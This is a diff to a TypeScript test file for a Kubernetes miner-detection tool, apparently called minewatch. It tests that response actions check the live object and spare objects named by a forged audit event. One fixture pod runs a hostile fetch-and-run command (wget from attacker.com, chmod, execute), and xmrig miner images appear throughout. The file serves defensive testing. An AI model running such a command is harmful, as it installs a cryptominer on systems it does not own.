@@ -11,6 +11,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, before, beforeEach, describe, test } from 'node:test';
 import { DEFAULT_RULES_FILES, Engine, type Match } from '../src/engine/index.js';
+import type { Event } from '../src/events.js';
 import { auditEvent } from '../src/k8s/audit-event.js';
 import { agentK8s } from '../src/k8s/agent-k8s.js';
 import { K8sClient } from '../src/k8s/client.js';
@@ -38,10 +39,45 @@ function config(mode: 'dryrun' | 'enforce', rule: string, ...actions: ActionName
   return { mode, actions: [{ rules: [rule], tags: [], do: actions }], allow: { exe_paths: [], images: [], namespaces: [] }, block_ttl_s: 60 };
 }
 
-/** An xmrig Deployment as the API server stores it. */
-const xmrigDeployment = (uid = DEPLOY_UID, extra: Json = {}) => workloadObject('apps/v1', 'Deployment', 'default', 'xmrig', uid, {
+/**
+ * The object as the create request a fixture records made it: created at that request's time (a
+ * live object created at another time is another object, and is refused).
+ */
+function createdAt<T extends Json>(o: T, time: string): T {
+  return { ...o, metadata: { ...(o.metadata as Json), creationTimestamp: time } };
+}
+
+const POD_UID = 'b0b0b0b0-1111-4222-8333-444455556666';
+/** The pod of `kubectl run miner` (fixture pod-kubectl-run-miner) as the API server stores it. */
+const minerPod = () => createdAt(podObject({
+  name: 'miner', namespace: 'default', uid: POD_UID, node: 'node-a', labels: { run: 'miner' },
+  containers: [{ name: 'miner', image: 'alpine', command: ['sh', '-c', 'wget http://attacker.com/miner && chmod +x miner && ./miner'] }],
+}), '2026-11-20T10:02:00Z');
+
+const PAYMENTS_UID = 'facefeed-1111-4222-8333-444455556666';
+/** The real prod/payments-api Deployment: a clean image, created long before any forged event. */
+const paymentsDeployment = () => createdAt(workloadObject('apps/v1', 'Deployment', 'prod', 'payments-api', PAYMENTS_UID, {
+  replicas: 6, selector: { matchLabels: { app: 'payments-api' } },
+  template: { metadata: { labels: { app: 'payments-api' } }, spec: { containers: [{ name: 'api', image: 'registry.example/payments-api:4.2', command: ['/app/server'] }] } },
+}), '2026-03-02T08:00:00Z');
+
+/** The issue's forged audit event: "create Deployment prod/payments-api image xmrig". */
+function forgedPaymentsEvent(): Json {
+  const ev = fixture('deployment-metal3d-xmrig');
+  ev.auditID = '0f0f0f0f-0000-4000-8000-00000000f0f0';
+  ev.objectRef.namespace = 'prod';
+  ev.requestURI = '/apis/apps/v1/namespaces/prod/deployments';
+  ev.requestObject.metadata = { name: 'payments-api', namespace: 'prod', labels: { app: 'payments-api' } };
+  ev.requestObject.spec.selector = { matchLabels: { app: 'payments-api' } };
+  ev.requestObject.spec.template.metadata.labels = { app: 'payments-api' };
+  ev.requestObject.spec.template.spec.containers[0].image = 'xmrig/xmrig:latest';
+  return ev;
+}
+
+/** An xmrig Deployment as the API server stores it (made by the create of fixture deployment-metal3d-xmrig). */
+const xmrigDeployment = (uid = DEPLOY_UID, extra: Json = {}) => createdAt(workloadObject('apps/v1', 'Deployment', 'default', 'xmrig', uid, {
   replicas: 1, selector: { matchLabels: { app: 'xmrig' } }, template: { metadata: { labels: { app: 'xmrig' } }, spec: { containers: [{ name: 'xmrig', image: 'metal3d/xmrig:latest' }] } }, ...extra,
-});
+}), '2026-11-20T10:01:00Z');
 
 describe('cluster responses on k8s_audit matches', () => {
   let s: K8sApiStandin;
@@ -59,8 +95,9 @@ describe('cluster responses on k8s_audit matches', () => {
   const lines = (): string[] => made().map(requestLine);
 
   /** Run the matches of `payload` through a dispatcher with every cluster action; resolves with the outcome alerts. */
-  async function respond(payload: Json, cfg: ResponseConfig, opts: { allow?: AllowList; selfNamespace?: string } = {}): Promise<Match[]> {
-    const o = { client, ...opts };
+  /** With `recheck: false`, the actions have no engine and compare images and commands instead. */
+  async function respond(payload: Json, cfg: ResponseConfig, opts: { allow?: AllowList; selfNamespace?: string; recheck?: false } = {}): Promise<Match[]> {
+    const o = { client, allow: opts.allow, selfNamespace: opts.selfNamespace, recheck: opts.recheck === false ? undefined : (rule: string, ev: Event) => engine.recheck(rule, ev) };
     const actions = { delete_pod: new DeletePodAction(o), quarantine_workload: new QuarantineWorkloadAction(o), isolate_pod: new IsolatePodAction(o), suggest_revoke: new SuggestRevokeAction(o) };
     const alerts: Match[] = [];
     const d = new ResponseDispatcher(cfg, actions, (m) => alerts.push(m), 'server-0');
@@ -133,6 +170,44 @@ describe('cluster responses on k8s_audit matches', () => {
     assert.equal(i.outputFields['mw.response.reason'], 'would create NetworkPolicy default/minewatch-isolate-deployment-xmrig denying all egress of pods with labels app=xmrig');
   });
 
+  test('a forged event naming a clean Deployment (issue 13): the live object no longer matches, nothing is scaled or isolated, the alert says why', async () => {
+    const offs = [s.on('GET', '/apis/apps/v1/namespaces/prod/deployments/payments-api', (_r, res) => sendJson(res, 200, paymentsDeployment()))];
+    const cfg = config('enforce', 'K8s Workload With Miner Image', 'quarantine_workload', 'isolate_pod');
+    const alerts = await respond(forgedPaymentsEvent(), cfg);
+    assert.ok(made().length > 0 && made().every((r) => r.method === 'GET'), `only reads: ${lines().join(', ')}`);
+    for (const action of ['quarantine_workload', 'isolate_pod'] as const) {
+      const a = one(alerts, action);
+      assert.equal(outcome(a), 'spared', action);
+      assert.equal(a.outputFields['mw.response.reason'],
+        'live object no longer matches: rule \'K8s Workload With Miner Image\' does not match Deployment prod/payments-api as it is now (images registry.example/payments-api:4.2; commands /app/server); the audit event\'s copy is not what runs, so nothing is done');
+      assert.match(a.output, /^\w+ of Deployment prod\/payments-api spared \(live object no longer matches: /);
+    }
+    // Without the engine at hand, the images are compared: the same refusal.
+    from = s.requests.length;
+    const bare = one(await respond(forgedPaymentsEvent(), cfg, { recheck: false }), 'quarantine_workload');
+    offs.forEach((f) => f());
+    assert.equal(outcome(bare), 'spared');
+    assert.match(String(bare.outputFields['mw.response.reason']), /^live object no longer matches: Deployment prod\/payments-api runs images registry\.example\/payments-api:4\.2; commands \/app\/server, not the xmrig\/xmrig:latest of the audit event/);
+    assert.ok(made().every((r) => r.method === 'GET'));
+  });
+
+  test('the rule\'s condition decides, not equality: a live Deployment running another miner tag than the event said is still quarantined', async () => {
+    // The event said xmrig/xmrig:latest; the live object runs xmrig/xmrig:6.21 (changed since): the rule still matches what runs.
+    const ev = forgedPaymentsEvent();
+    // Made by the request the event records (the same time), changed since.
+    const live = createdAt(paymentsDeployment(), '2026-11-20T10:01:00Z');
+    ((live.spec as Json).template.spec.containers[0] as Json).image = 'xmrig/xmrig:6.21';
+    const offs = [
+      s.on('GET', '/apis/apps/v1/namespaces/prod/deployments/payments-api', (_r, res) => sendJson(res, 200, live)),
+      s.on('PATCH', '/apis/apps/v1/namespaces/prod/deployments/payments-api', (_r, res) => sendJson(res, 200, live)),
+    ];
+    const a = one(await respond(ev, config('enforce', 'K8s Workload With Miner Image', 'quarantine_workload')), 'quarantine_workload');
+    offs.forEach((f) => f());
+    assert.equal(outcome(a), 'done', String(a.outputFields['mw.response.reason']));
+    assert.equal(a.outputFields['mw.response.reason'], 'scaled Deployment prod/payments-api from 6 to 0 replicas');
+    assert.deepEqual(lines(), ['GET /apis/apps/v1/namespaces/prod/deployments/payments-api', 'PATCH /apis/apps/v1/namespaces/prod/deployments/payments-api']);
+  });
+
   test('the uid the audit event recorded must still be the object\'s: a replaced Deployment is missed, never patched', async () => {
     const ev = fixture('deployment-metal3d-xmrig');
     ev.level = 'RequestResponse';
@@ -165,8 +240,8 @@ describe('cluster responses on k8s_audit matches', () => {
     const ev = fixture('daemonset-unexpected-user');
     const spec = ev.requestObject.spec;
     const offs = [
-      s.on('GET', '/apis/apps/v1/namespaces/logging/daemonsets/log-shipper', (_r, res) => sendJson(res, 200, workloadObject('apps/v1', 'DaemonSet', 'logging', 'log-shipper', DS_UID, spec))),
-      s.on('PATCH', '/apis/apps/v1/namespaces/logging/daemonsets/log-shipper', (_r, res) => sendJson(res, 200, workloadObject('apps/v1', 'DaemonSet', 'logging', 'log-shipper', DS_UID, spec))),
+      s.on('GET', '/apis/apps/v1/namespaces/logging/daemonsets/log-shipper', (_r, res) => sendJson(res, 200, createdAt(workloadObject('apps/v1', 'DaemonSet', 'logging', 'log-shipper', DS_UID, spec), '2026-11-20T10:10:00Z'))),
+      s.on('PATCH', '/apis/apps/v1/namespaces/logging/daemonsets/log-shipper', (_r, res) => sendJson(res, 200, createdAt(workloadObject('apps/v1', 'DaemonSet', 'logging', 'log-shipper', DS_UID, spec), '2026-11-20T10:10:00Z'))),
       s.on('DELETE', '/apis/apps/v1/namespaces/logging/daemonsets/log-shipper', (_r, res) => sendJson(res, 200, OK)),
     ];
     const alerts = await respond(ev, config('enforce', 'K8s DaemonSet or CronJob By Unexpected User', 'quarantine_workload'));
@@ -185,11 +260,24 @@ describe('cluster responses on k8s_audit matches', () => {
     assert.equal(a.outputFields['mw.response.user'], 'mallory');
   });
 
+  test('a rule on who sent the request (a DaemonSet by an unexpected user) cannot be aimed at another object of that name: one created at another time is spared', async () => {
+    const ev = fixture('daemonset-unexpected-user');
+    const spec = ev.requestObject.spec;
+    // Same name and spec, created a month before the request the event records: not the object that request made.
+    const off = s.on('GET', '/apis/apps/v1/namespaces/logging/daemonsets/log-shipper', (_r, res) => sendJson(res, 200, createdAt(workloadObject('apps/v1', 'DaemonSet', 'logging', 'log-shipper', 'e1e1e1e1-1111-4222-8333-444455556666', spec), '2026-10-20T09:00:00Z')));
+    const alerts = await respond(ev, config('enforce', 'K8s DaemonSet or CronJob By Unexpected User', 'quarantine_workload'));
+    off();
+    assert.deepEqual(lines(), ['GET /apis/apps/v1/namespaces/logging/daemonsets/log-shipper'], 'read, never deleted');
+    const a = one(alerts, 'quarantine_workload');
+    assert.equal(outcome(a), 'spared');
+    assert.equal(a.outputFields['mw.response.reason'], 'live object no longer matches: DaemonSet logging/log-shipper was created at 2026-10-20T09:00:00.000Z, not by the create request of 2026-11-20T10:10:00.100000Z the audit event records, so nothing is done');
+  });
+
   test('a CronJob is suspended', async () => {
     const CJ_UID = 'c0c0c0c0-1111-4222-8333-444455556666';
     const ev = fixture('cronjob-wget-pool');
     const offs = [
-      s.on('GET', '/apis/batch/v1/namespaces/default/cronjobs/cleanup', (_r, res) => sendJson(res, 200, workloadObject('batch/v1', 'CronJob', 'default', 'cleanup', CJ_UID, { ...ev.requestObject.spec, suspend: false }))),
+      s.on('GET', '/apis/batch/v1/namespaces/default/cronjobs/cleanup', (_r, res) => sendJson(res, 200, createdAt(workloadObject('batch/v1', 'CronJob', 'default', 'cleanup', CJ_UID, { ...ev.requestObject.spec, suspend: false }), '2026-11-20T10:08:00Z'))),
       s.on('PATCH', '/apis/batch/v1/namespaces/default/cronjobs/cleanup', (_r, res) => sendJson(res, 200, workloadObject('batch/v1', 'CronJob', 'default', 'cleanup', CJ_UID, { ...ev.requestObject.spec, suspend: true }))),
     ];
     const rule = matchesOf(ev)[0]!.rule;
@@ -204,12 +292,15 @@ describe('cluster responses on k8s_audit matches', () => {
     assert.equal(one(alerts, 'quarantine_workload').outputFields['mw.response.reason'], 'suspended CronJob default/cleanup');
   });
 
-  test('a bare Pod (kubectl run miner): delete_pod deletes it with grace period 0; kill is skipped, with the reason', async () => {
-    const off = s.on('DELETE', '/api/v1/namespaces/default/pods/miner', (_r, res) => sendJson(res, 200, OK));
+  test('a bare Pod (kubectl run miner): delete_pod reads it, it still runs the miner command, deletes it with grace period 0; kill is skipped, with the reason', async () => {
+    const offs = [
+      s.on('GET', '/api/v1/namespaces/default/pods/miner', (_r, res) => sendJson(res, 200, minerPod())),
+      s.on('DELETE', '/api/v1/namespaces/default/pods/miner', (_r, res) => sendJson(res, 200, OK)),
+    ];
     const alerts = await respond(fixture('pod-kubectl-run-miner'), config('enforce', 'K8s Workload Runs Miner Command', 'kill', 'delete_pod'));
-    off();
-    assert.deepEqual(lines(), ['DELETE /api/v1/namespaces/default/pods/miner?gracePeriodSeconds=0']);
-    assert.deepEqual(made()[0]!.body, { apiVersion: 'v1', kind: 'DeleteOptions', gracePeriodSeconds: 0 });
+    offs.forEach((f) => f());
+    assert.deepEqual(lines(), ['GET /api/v1/namespaces/default/pods/miner', 'DELETE /api/v1/namespaces/default/pods/miner?gracePeriodSeconds=0']);
+    assert.deepEqual(made()[1]!.body, { apiVersion: 'v1', kind: 'DeleteOptions', gracePeriodSeconds: 0 });
     const del = one(alerts, 'delete_pod');
     assert.equal(outcome(del), 'done');
     assert.equal(del.outputFields['k8s.pod.name'], 'miner');
@@ -220,9 +311,8 @@ describe('cluster responses on k8s_audit matches', () => {
   });
 
   test('a bare Pod: quarantine_workload finds no controller and deletes the pod itself, annotated first', async () => {
-    const POD_UID = 'b0b0b0b0-1111-4222-8333-444455556666';
     const offs = [
-      s.on('GET', '/api/v1/namespaces/default/pods/miner', (_r, res) => sendJson(res, 200, podObject({ name: 'miner', namespace: 'default', uid: POD_UID, node: 'node-a', labels: { run: 'miner' }, containers: [{ name: 'miner', image: 'alpine' }] }))),
+      s.on('GET', '/api/v1/namespaces/default/pods/miner', (_r, res) => sendJson(res, 200, minerPod())),
       s.on('PATCH', '/api/v1/namespaces/default/pods/miner', (_r, res) => sendJson(res, 200, {})),
       s.on('DELETE', '/api/v1/namespaces/default/pods/miner', (_r, res) => sendJson(res, 200, OK)),
     ];
@@ -236,15 +326,16 @@ describe('cluster responses on k8s_audit matches', () => {
     assert.equal(JSON.parse(String(a.outputFields['mw.response.manifest'])).kind, 'Pod');
   });
 
-  test('isolate_pod on a Deployment: a deny-all-egress NetworkPolicy on its pod template labels', async () => {
+  test('isolate_pod on a Deployment: a deny-all-egress NetworkPolicy on its live pod template labels', async () => {
     const offs = [
+      s.on('GET', '/apis/apps/v1/namespaces/default/deployments/xmrig', (_r, res) => sendJson(res, 200, xmrigDeployment())),
       s.on('GET', '/apis/networking.k8s.io/v1/namespaces/default/networkpolicies', (_r, res) => sendJson(res, 200, listObject('NetworkPolicyList', 'networking.k8s.io/v1', '9', []))),
       s.on('POST', '/apis/networking.k8s.io/v1/namespaces/default/networkpolicies', (r, res) => sendJson(res, 201, r.body)),
     ];
     const alerts = await respond(fixture('deployment-metal3d-xmrig'), config('enforce', 'K8s Workload With Miner Image', 'isolate_pod'));
     offs.forEach((f) => f());
-    assert.deepEqual(lines(), ['GET /apis/networking.k8s.io/v1/namespaces/default/networkpolicies', 'POST /apis/networking.k8s.io/v1/namespaces/default/networkpolicies']);
-    const body = made()[1]!.body as { metadata: { name: string; labels: Record<string, string>; annotations: Record<string, string> }; spec: unknown };
+    assert.deepEqual(lines(), ['GET /apis/apps/v1/namespaces/default/deployments/xmrig', 'GET /apis/networking.k8s.io/v1/namespaces/default/networkpolicies', 'POST /apis/networking.k8s.io/v1/namespaces/default/networkpolicies']);
+    const body = made()[2]!.body as { metadata: { name: string; labels: Record<string, string>; annotations: Record<string, string> }; spec: unknown };
     assert.equal(body.metadata.name, 'minewatch-isolate-deployment-xmrig');
     assert.deepEqual(body.metadata.labels, { 'app.kubernetes.io/managed-by': 'minewatch', 'minewatch.io/isolated-workload': 'Deployment.xmrig' });
     assert.equal(body.metadata.annotations['minewatch.io/reason'], 'minewatch K8s Workload With Miner Image: create of Deployment default/xmrig by kubernetes-admin');
@@ -252,15 +343,16 @@ describe('cluster responses on k8s_audit matches', () => {
     assert.equal(outcome(one(alerts, 'isolate_pod')), 'done');
   });
 
-  test('isolate_pod on a bare Pod takes the labels the audit event carries', async () => {
+  test('isolate_pod on a bare Pod takes the live pod\'s labels', async () => {
     const offs = [
+      s.on('GET', '/api/v1/namespaces/default/pods/miner', (_r, res) => sendJson(res, 200, minerPod())),
       s.on('GET', '/apis/networking.k8s.io/v1/namespaces/default/networkpolicies', (_r, res) => sendJson(res, 200, listObject('NetworkPolicyList', 'networking.k8s.io/v1', '9', []))),
       s.on('POST', '/apis/networking.k8s.io/v1/namespaces/default/networkpolicies', (r, res) => sendJson(res, 201, r.body)),
     ];
     const alerts = await respond(fixture('pod-kubectl-run-miner'), config('enforce', 'K8s Workload Runs Miner Command', 'isolate_pod'));
     offs.forEach((f) => f());
-    assert.deepEqual(lines(), ['GET /apis/networking.k8s.io/v1/namespaces/default/networkpolicies', 'POST /apis/networking.k8s.io/v1/namespaces/default/networkpolicies']);
-    const body = made()[1]!.body as { metadata: { name: string }; spec: unknown };
+    assert.deepEqual(lines(), ['GET /api/v1/namespaces/default/pods/miner', 'GET /apis/networking.k8s.io/v1/namespaces/default/networkpolicies', 'POST /apis/networking.k8s.io/v1/namespaces/default/networkpolicies']);
+    const body = made()[2]!.body as { metadata: { name: string }; spec: unknown };
     assert.equal(body.metadata.name, 'minewatch-isolate-miner');
     assert.deepEqual(body.spec, { podSelector: { matchLabels: { run: 'miner' } }, policyTypes: ['Egress'], egress: [] });
     assert.equal(outcome(one(alerts, 'isolate_pod')), 'done');
@@ -354,30 +446,48 @@ describe('cluster responses on k8s_audit matches', () => {
     }
   });
 
-  test('end to end: `minewatch server` takes the Deployment on /k8s-audit, scales it to 0 through the API, and stores the outcome alert', async () => {
+  test('end to end: `minewatch server` (web.token only) refuses /k8s-audit without it, spares a clean Deployment a forged event names, scales the real miner to 0, and stores both outcomes', async () => {
     const dir = mkdtempSync(join(tmpdir(), 'mw-k8s-audit-resp-e2e-'));
     let server: AgentRun | undefined;
     const offs = [
       s.on('GET', '/apis/apps/v1/namespaces/default/deployments/xmrig', (_r, res) => sendJson(res, 200, xmrigDeployment())),
+      s.on('GET', '/apis/apps/v1/namespaces/prod/deployments/payments-api', (_r, res) => sendJson(res, 200, paymentsDeployment())),
       s.on('PATCH', '/apis/apps/v1/namespaces/default/deployments/xmrig', (_r, res) => sendJson(res, 200, xmrigDeployment(DEPLOY_UID, { replicas: 0 }))),
     ];
     const failAfter = setTimeout(() => server?.kill(), 60_000);
     try {
       writeFileSync(join(dir, 'token'), `${s.token}\n`);
       const webToken = randomToken(16);
-      const auditToken = randomToken(16);
       const cfg = writeConfig(join(dir, 'server.yaml'), {
         outputs: { stdout: { enabled: false } },
         web: { token: webToken },
-        k8s: { api: { server: s.url, token_file: join(dir, 'token') }, audit: { enabled: true, token: auditToken } },
+        k8s: { api: { server: s.url, token_file: join(dir, 'token') }, audit: { enabled: true } },
         response: { mode: 'enforce', actions: [{ rules: ['K8s Workload With Miner Image'], do: ['quarantine_workload'] }] },
       });
       server = new AgentRun(cfg, { command: 'server' });
       const base = await server.webUrl();
-      const posted = await fetch(`${base}/k8s-audit`, {
-        method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${auditToken}` }, body: JSON.stringify(fixture('deployment-metal3d-xmrig')),
+      const auditPost = (body: unknown, token?: string) => fetch(`${base}/k8s-audit`, {
+        method: 'POST', headers: { 'content-type': 'application/json', ...(token ? { authorization: `Bearer ${token}` } : {}) }, body: JSON.stringify(body),
       });
-      assert.equal(posted.status, 200);
+      const outcomeAlert = async (object: string): Promise<Json | undefined> => {
+        for (let i = 0; i < 200; i++) {
+          const r = await fetch(`${base}/api/alerts?rule=${encodeURIComponent('minewatch response: quarantine_workload')}`, { headers: { authorization: `Bearer ${webToken}` } });
+          const hit = ((await r.json()) as { alerts: Json[] }).alerts.find((a) => String(a.output).includes(object));
+          if (hit) return hit;
+          await new Promise((r) => setTimeout(r, 50));
+        }
+        return undefined;
+      };
+      // No k8s.audit.token: the route takes web.token, and nothing without it.
+      assert.equal((await auditPost(forgedPaymentsEvent())).status, 401);
+      assert.equal((await auditPost(forgedPaymentsEvent(), webToken)).status, 200);
+      const spared = await outcomeAlert('prod/payments-api');
+      assert.ok(spared, `the outcome of the forged event is stored; server log: ${JSON.stringify(server.logs.slice(-10))}`);
+      assert.match(spared.output, /^quarantine_workload of Deployment prod\/payments-api spared \(live object no longer matches: rule 'K8s Workload With Miner Image' does not match Deployment prod\/payments-api as it is now \(images registry\.example\/payments-api:4\.2/);
+      assert.deepEqual(made().map(requestLine), ['GET /apis/apps/v1/namespaces/prod/deployments/payments-api'], 'read, never patched');
+      from = s.requests.length;
+
+      assert.equal((await auditPost(fixture('deployment-metal3d-xmrig'), webToken)).status, 200);
       // Bounded, so a server that never acts fails with its log rather than hanging the suite.
       let timer: NodeJS.Timeout | undefined;
       const patch = await Promise.race([
@@ -390,12 +500,7 @@ describe('cluster responses on k8s_audit matches', () => {
       assert.deepEqual((patch.body as { spec: unknown }).spec, { replicas: 0 });
       assert.equal(patch.authorization, `Bearer ${s.token}`, 'the token from k8s.api.token_file');
       assert.deepEqual(made().map(requestLine), ['GET /apis/apps/v1/namespaces/default/deployments/xmrig', 'PATCH /apis/apps/v1/namespaces/default/deployments/xmrig'], 'no pod watch on the server');
-      let alert: Json | undefined;
-      for (let i = 0; i < 200 && !alert; i++) {
-        const r = await fetch(`${base}/api/alerts?rule=${encodeURIComponent('minewatch response: quarantine_workload')}`, { headers: { authorization: `Bearer ${webToken}` } });
-        alert = ((await r.json()) as { alerts: Json[] }).alerts[0];
-        if (!alert) await new Promise((r) => setTimeout(r, 50));
-      }
+      const alert = await outcomeAlert('default/xmrig');
       assert.ok(alert, 'the outcome alert is in the server store');
       assert.match(alert.output, /^quarantine_workload of Deployment default\/xmrig done \(scaled Deployment default\/xmrig from 1 to 0 replicas\)/);
       await server.stop();
